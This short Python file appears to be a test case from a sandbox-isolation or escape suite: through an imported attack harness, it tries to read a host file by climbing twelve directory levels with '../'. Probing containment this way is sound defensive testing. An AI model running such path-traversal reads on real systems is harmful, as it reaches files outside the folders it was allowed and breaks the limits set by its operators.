"""Climbs from its own folder to the host's root by `..`, and down to a file of the host."""

from pathlib import Path

from attack import attempt, setting


def climb() -> str:
    return Path("../" * 12 + setting("HOST_FILE")).read_text()


attempt(climb)
